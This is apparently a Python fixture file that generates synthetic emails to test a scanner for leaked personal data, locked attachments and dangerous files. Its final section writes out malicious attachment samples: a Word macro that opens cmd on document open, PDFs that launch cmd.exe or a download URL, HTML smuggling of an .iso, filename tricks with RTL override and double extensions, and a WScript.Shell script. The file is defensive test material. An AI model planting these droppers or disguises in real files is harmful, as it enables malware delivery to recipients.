"""What is inside of files: hidden sheets and columns, the same list in every format, locked files, files that do something."""

import gzip
import pathlib

from files import PROGRAM, SHORTCUT, big_xlsx, csv, docm, docx, iso, locked_office, pdf, rar5, tnef, xlsx, zip_encrypted, zip_of
from leaked import MAN, XLSX, customers
from mail import Attachment, Letter, when
from people import GIVEN, SURNAMES, Person, english, group, japanese
from programs import becky, exchange, gmail, mutt, outlook, thunderbird
from registry import case, numbered

# Files that real programs wrote; content/testdata/make makes them.
REAL = pathlib.Path(__file__).resolve().parent.parent.parent / "content" / "testdata" / "files"


def real(name):
    data = (REAL / name).read_bytes()
    return gzip.decompress(data) if name.endswith(".gz") and not name.endswith(".ppt.gz") else data  # a small presentation is half a megabyte of zeros


# ---- data that nobody saw

def applicants(n):
    """Rows of one length: reference, name, birth, telephone."""
    names = ["%-16s" % (english(i).name[:16]) for i in range(625)]
    return [["AR%06d" % (410000 + i), names[i // 30 % 625], "19%02d-%02d-%02d" % (60 + i // 31 % 40, i // 200 % 12 + 1, i // 20 % 28 + 1), "+44 7700 %06d" % (900000 + i)] for i in range(n)]


@case("mod-2022-hidden-sheet-twice")
def _():
    """150 names were meant; a hidden sheet holds 18,714 applicants. Mailed outside twice."""
    me = Person("Resettlement Cell", "", "cell@defence-ministry.example.org")
    head, rows = ["Reference", "Name", "Date of birth", "Mobile"], applicants(18714)
    shown = [["Reference", "Status"]] + [[r[0], "verified"] for r in rows[:150]]
    def letter(key, to, at, hidden):
        book = big_xlsx(head, rows, shown) if hidden else xlsx(shown)
        return exchange(Letter(key, me, [to], subject="Applicants to verify", at=when(at), lang="en", text="Please confirm which of these you know.\n", files=[Attachment("applicants.xlsx", book, XLSX)]))
    one, two = Person("", "", "liaison@contacts.example"), Person("", "", "verify@contacts.example")
    return numbered([letter("mod-1", one, "2022-02-08 11:20:00", True), letter("mod-2", two, "2022-02-15 16:02:00", True)], letter("mod-1", one, "2022-02-08 11:20:00", False))


@case("boeing-2016-hidden-columns")
def _():
    """Formatting help from a spouse: the workbook's hidden columns hold 36,000 birth dates and numbers."""
    me = Person("Robert Fallow", "", "r.fallow@aero-works.example")
    rows = [["%-16s" % english(i // 58).name[:16], "E%06d" % (104000 + i), "19%02d-%02d-%02d" % (50 + i // 900 % 48, i // 80 % 12 + 1, i // 10 % 28 + 1), "219-%02d-%04d" % (i // 9000 + 10, i % 9000 + 1000)] for i in range(36000)]
    head = ["Name", "Employee ID", "Date of birth", "SSN"]
    l = Letter("boeing", me, [Person("", "", "fallow.family.ex19@gmail.com")], subject="template", at=when("2016-11-21 17:05:00"), lang="en", charset="utf-8", text="Could you have a look at the column widths?\n",
               files=[Attachment("employees.xlsx", big_xlsx(head, rows, hidden_columns=(3, 4)), XLSX)])
    return outlook(l), outlook(l.but(files=[Attachment("employees.xlsx", xlsx([head[:2], ["", ""]]), XLSX)]))


# ---- lists to a lookalike and to a stranger's forwarding

@case("kagoshima-2023-seminar-roll")
def _():
    """The roll of 109 students to a laboratory's list, of which one member is at gmai.com."""
    me = Person("農学部 食品化学研究室", "", "shokuhin@agri.minami-dai.example.ac.jp")
    to = [japanese(i, "agri.minami-dai.example.ac.jp") for i in (4, 9, 21)] + [Person("", "", "hana.tadokoro.ex41@gmai.com")]
    roll = "\n".join("%s　学籍番号 42%05d" % (p.name, 30017 + i * 13) for i, p in enumerate(group(109, 60)))
    l = Letter("kago-roll", me, to, subject="ゼミ名簿（前期）", at=when("2021-04-12 10:11:00"), charset="iso-2022-jp", text="皆様\n\n前期の名簿です。\n\n%s\n" % roll)
    return becky(l), becky(l.but(to=to[:3]))


@case("yokohama-2018-records-forwarded")
def _():
    """A mailbox that somebody else had set to forward sends records of students and their telephones to the stranger."""
    sender = Person("附属病院 医事課", "", "iji@minato-idai.example.ac.jp")
    people = group(66, 30)
    rows = [["学籍番号", "氏名", "電話番号", "評価"]] + [["M17%04d" % (i * 7), p.name, "090-5550-%04d" % (i * 3), "%d" % (60 + i % 40)] for i, p in enumerate(people)]
    l = Letter("yoko-records", sender, [japanese(11, "minato-idai.example.ac.jp")], subject="臨床実習の評価", at=when("2018-05-21 18:40:00"), charset="iso-2022-jp", text="各位\n\n評価表です。\n",
               files=[Attachment("評価表.csv", csv(rows), "text/csv")], extra=[("X-MS-Exchange-Inbox-Rules-Loop", "nakazato@minato-idai.example.ac.jp")])
    return outlook(l), outlook(l.but(extra=[]))


# ---- the customers' list in every format

def carried(id, write, name, data, twin, type="application/octet-stream", text="お世話になります。\n先日お話しした資料です。\n\n西脇\n", twin_name=None):
    @case(id)
    def _():
        l = Letter(id, MAN, [Person("採用担当", "", "saiyo@kaisha38.example")], subject="資料", at=when("2023-01-30 07:55:20"), charset="utf-8", text=text, files=[Attachment(name, data() if callable(data) else data, type)])
        return write(l), write(l.but(files=[Attachment(twin_name or name, twin() if callable(twin) else twin, type)]))


PROGRAMS = [gmail, outlook, thunderbird, becky, mutt, exchange]
for i, (ext, kept, type) in enumerate((
        ("doc", "doc.gz", "application/msword"), ("docx", "docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"), ("rtf", "rtf.gz", "application/rtf"),
        ("odt", "odt", "application/vnd.oasis.opendocument.text"), ("pdf", "pdf", "application/pdf"), ("xls", "xls.gz", "application/vnd.ms-excel"), ("xlsx", "xlsx", XLSX), ("ods", "ods", "application/vnd.oasis.opendocument.spreadsheet"),
        ("ppt.gz", "ppt.gz", "application/gzip"), ("pptx", "pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation"), ("odp", "odp", "application/vnd.oasis.opendocument.presentation"))):
    carried("aikoumuten-2023-as-" + ext.removesuffix(".gz"), PROGRAMS[i % 6], "一覧." + ext, lambda kept=kept: real("people." + kept), lambda kept=kept: real("things." + kept), type)

GOODS = [["品名", "品番", "価格", "在庫"]] + [["木製椅子 %d型" % i, "A-%04d-%04d" % (i * 31, 5550 + i), "%d円" % (9800 + i * 120), "%d" % (i % 7)] for i in range(60)]


def lines(rows, sep, charset):
    return "".join(sep.join(r) + "\r\n" for r in rows).encode(charset)


def cards(n):
    out = ""
    for i, p in enumerate(group(n, 120)):
        s, g = p.name.split(" ")
        out += "BEGIN:VCARD\r\nVERSION:3.0\r\nN:%s;%s;;;\r\nFN:%s\r\nTEL;TYPE=CELL:090-5550-%04d\r\nEMAIL:%s\r\nADR;TYPE=HOME:;;本町%d丁目%d-%d;北区;東京都;114-0002;日本\r\nEND:VCARD\r\n" % (s, g, p.name, i * 7, p.address, i % 6 + 1, i + 1, i % 9 + 1)
    return out.encode("utf-8")


def calendar(n, people):
    out = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Sumai//JA\r\n"
    for i, p in enumerate(group(n, 120)):
        what = ("訪問 %s様 090-5550-%04d\\n住所 北区本町%d丁目%d-%d" % (p.name, i * 7, i % 6 + 1, i + 1, i % 9 + 1)) if people else "現場%d 定例会議\\n会議室%d" % (i, i % 9 + 1)
        out += "BEGIN:VEVENT\r\nUID:v%d@ai-sumai.example.jp\r\nDTSTAMP:20230120T000000Z\r\nDTSTART:202302%02dT%02d0000Z\r\nSUMMARY:予定\r\nDESCRIPTION:%s\r\nEND:VEVENT\r\n" % (i, i % 28 + 1, i % 9, what)
    return (out + "END:VCALENDAR\r\n").encode("utf-8")


def inner(rows):
    l = Letter("aikou-inner", Person("営業部", "", "eigyo@ai-sumai.example.jp"), [MAN], subject="顧客一覧（社内）", at=when("2023-01-20 09:00:00"), charset="utf-8", text="最新の一覧です。\n", files=[Attachment("一覧.csv", lines(rows, ",", "cp932"), "text/csv")])
    return outlook(l)


ID = "aikoumuten-2023-"
carried(ID + "as-csv-shift-jis", outlook, "一覧.csv", lines(customers(40), ",", "cp932"), lines(GOODS, ",", "cp932"), "text/csv")
carried(ID + "as-tsv-utf-16", becky, "一覧.tsv", b"\xff\xfe" + lines(customers(40), "\t", "utf-16-le"), b"\xff\xfe" + lines(GOODS, "\t", "utf-16-le"), "text/tab-separated-values")
carried(ID + "as-text", mutt, "メモ.txt", lines(customers(40)[1:], "　", "euc_jp"), lines(GOODS[1:], "　", "euc_jp"), "text/plain")
carried(ID + "as-vcards", thunderbird, "contacts.vcf", cards(40), cards(1), "text/vcard")
carried(ID + "as-calendar", gmail, "予定.ics", calendar(40, True), calendar(40, False), "application/ics")
carried(ID + "in-nested-message", outlook, "転送.eml", lambda: inner(customers(40)), lambda: inner(GOODS))
carried(ID + "in-winmail-dat", becky, "winmail.dat", tnef([("一覧.csv", lines(customers(40), ",", "cp932"))]), tnef([("一覧.csv", lines(GOODS, ",", "cp932"))]), "application/ms-tnef")
carried(ID + "in-zip-in-zip", thunderbird, "資料.zip", zip_of([("2023/資料.zip", zip_of([("一覧.xlsx", xlsx(customers(40)))]))]), zip_of([("2023/資料.zip", zip_of([("一覧.xlsx", xlsx(GOODS))]))]), "application/zip")
carried(ID + "in-7z", gmail, "資料.7z", lambda: real("people.7z"), lambda: real("things.7z"), "application/x-7z-compressed")
carried(ID + "behind-the-names-of-rar", outlook, "資料.rar", rar5("一覧.csv", lines(customers(40), ",", "cp932"), False), rar5("一覧.csv", lines(GOODS, ",", "cp932"), False), "application/vnd.rar")


# ---- locked files

PASSWORD = "お世話になっております。斉木です。\n運行表をお送りします。パスワードは次のとおりです。\n\n　Tetsu#0307\n"
SAIKI = Person("小浜鉄道 斉木", "", "saiki@obama-tetsudo.example.jp")


def lock(id, write, name, data, twin, type="application/octet-stream"):
    @case("isumi-2022-locked-" + id)
    def _():
        l = Letter("isumi-" + id, SAIKI, [japanese(30, "kaisha30.example")], subject="運行表の送付", at=when("2022-03-08 10:00:12"), text=PASSWORD, files=[Attachment(name, data() if callable(data) else data, type)])
        plain = "お世話になっております。斉木です。\n運行表をお送りします。\n"
        return write(l), write(l.but(text=plain, files=[Attachment(name, twin() if callable(twin) else twin, type)]))


TABLE = [["列車", "発", "着"]] + [["%d列車" % i, "%d:%02d" % (6 + i // 3, i * 7 % 60), "%d:%02d" % (7 + i // 3, i * 11 % 60)] for i in range(20)]
lock("7z", outlook, "運行表.7z", lambda: real("locked.7z"), lambda: real("stored.7z"), "application/x-7z-compressed")
lock("7z-with-names", becky, "運行表.7z", lambda: real("names.7z"), lambda: real("plain.7z"), "application/x-7z-compressed")
lock("zip-aes", gmail, "運行表.zip", lambda: real("aes.zip"), lambda: real("plain.zip"), "application/zip")
lock("rar", thunderbird, "運行表.rar", rar5("運行表.csv", b"\x93\x11" * 60, True), rar5("運行表.csv", lines(TABLE, ",", "cp932"), False), "application/vnd.rar")
lock("docx", exchange, "運行表.docx", locked_office, docx(["　".join(r) for r in TABLE]), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
lock("xlsx", outlook, "運行表.xlsx", locked_office, xlsx(TABLE), XLSX)
lock("xls", becky, "運行表.xls", lambda: real("book-locked.xls"), lambda: real("things.xls.gz"), "application/vnd.ms-excel")
lock("ods", thunderbird, "運行表.ods", lambda: real("book-locked.ods"), lambda: real("things.ods"), "application/vnd.oasis.opendocument.spreadsheet")
lock("pdf", gmail, "運行表.pdf", lambda: real("user256.pdf"), lambda: real("owner256.pdf"), "application/pdf")
lock("zip-in-zip", outlook, "資料.zip", zip_of([("運行表.zip", zip_encrypted([("運行表.csv", lines(TABLE, ",", "cp932"))], "Tetsu#0307"))]), zip_of([("運行表.zip", zip_of([("運行表.csv", lines(TABLE, ",", "cp932"))]))]), "application/zip")


# ---- files that do something, from an abused help desk

DESK = Person("サポート窓口", "", "helpdesk@lg-support.example.jp")


def risky(id, write, name, data, twin_name, twin, type="application/octet-stream"):
    @case("emotet-chiba-2022-" + id)
    def _():
        l = Letter("emotet-" + id, DESK, [Person("税務課", "", "zeimu@city.chihaya.example.jp")], subject="RE: 端末の不具合について", at=when("2022-05-21 09:14:00"), text="ご確認をお願いします。\n", files=[Attachment(name, data() if callable(data) else data, type)])
        return write(l), write(l.but(files=[Attachment(twin_name, twin() if callable(twin) else twin, type)]))


def pdf_with(action):
    return pdf("Report").replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << %s >>" % action)


SMUGGLING = ("<html><body><p>資料を表示しています。</p><script>var d=atob('%s');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([d],{type:'octet/stream'}));a.download='資料.iso';a.click();</script></body></html>" % ("TVqQAAMAAAAEAAAA" * 30)).encode("utf-8")
PAGE = "<html><body><p>資料を表示しています。</p><script>document.title='資料';</script></body></html>".encode("utf-8")
OPENS = b"Attribute VB_Name = \"ThisDocument\"\r\nSub Document_Open()\r\nShell \"cmd\"\r\nEnd Sub\r\n"
risky("renamed-program", outlook, "報告書.pdf", PROGRAM, "報告書.pdf", pdf("Report"), "application/pdf")
risky("double-extension", becky, "報告書.pdf.exe", PROGRAM, "報告書.pdf", pdf("Report"))
risky("reversed-name", gmail, "報告書\u202efdp.scr", PROGRAM, "報告書.pdf", pdf("Report"))
risky("program-in-7z", thunderbird, "報告書.7z", lambda: real("program.7z"), "報告書.7z", lambda: real("plain.7z"))
risky("script-in-pdf", outlook, "報告書.pdf", pdf_with(b"/S /JavaScript /JS (app.launchURL('https://download.example/a'))"), "報告書.pdf", pdf("Report"), "application/pdf")
risky("program-from-pdf", becky, "報告書.pdf", pdf_with(b"/S /Launch /F (cmd.exe)"), "報告書.pdf", pdf("Report"), "application/pdf")
risky("shortcut-in-image", thunderbird, "報告書.iso", iso("REPORT.LNK", SHORTCUT), "報告書.zip", zip_of([("報告書.pdf", pdf("Report"))]))
risky("html-smuggling", gmail, "報告書.html", SMUGGLING, "報告書.html", PAGE, "text/html")
risky("macro-that-starts", exchange, "報告書.docm", docm(["報告書"], OPENS), "報告書.docx", docx(["報告書"]))
risky("workbook-with-macros", outlook, "集計.xlsm", xlsx(TABLE, macro=True), "集計.xlsx", xlsx(TABLE))
risky("script-file", mutt, "印刷.js", b"var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c whoami');\r\n", "印刷.txt", "印刷の手順\r\n".encode("utf-8"))
